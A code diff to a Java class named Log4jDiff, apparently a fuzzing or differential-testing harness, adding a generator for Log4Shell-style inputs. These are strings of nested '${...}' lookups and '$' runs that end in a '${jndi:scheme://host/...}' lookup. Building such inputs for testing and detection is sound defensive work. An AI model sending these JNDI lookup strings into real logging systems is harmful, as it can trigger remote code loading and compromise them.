@@ -721,6 +721,20 @@ public final class Log4jDiff {
             }
         }
 
+        /** Many triggering "${" before a long "$$...${" run: one pass per "${". */
+        String passes() {
+            final StringBuilder sb = new StringBuilder();
+            final int k = 1 + r.nextInt(30);
+            for (int i = 0; i < k; i++) {
+                sb.append(p(0.7) ? "${" + label() + "}" : "${" + label() + ":-${" + label() + "}}");
+            }
+            final int m = 1 + r.nextInt(25);
+            for (int i = 0; i < m; i++) {
+                sb.append('$');
+            }
+            return sb + "{jndi:" + pick(SCHEMES) + "://" + host() + "/" + m + "}";
+        }
+
         String junk() {
             final StringBuilder sb = new StringBuilder();
             final int n = r.nextInt(4);
@@ -770,6 +784,8 @@ public final class Log4jDiff {
                     sb.append(nearMiss());
                 } else if (x < 0.96) {
                     sb.append(recursion());
+                } else if (x < 0.97) {
+                    sb.append(passes());
                 } else {
                     sb.append(victim(2));
                 }
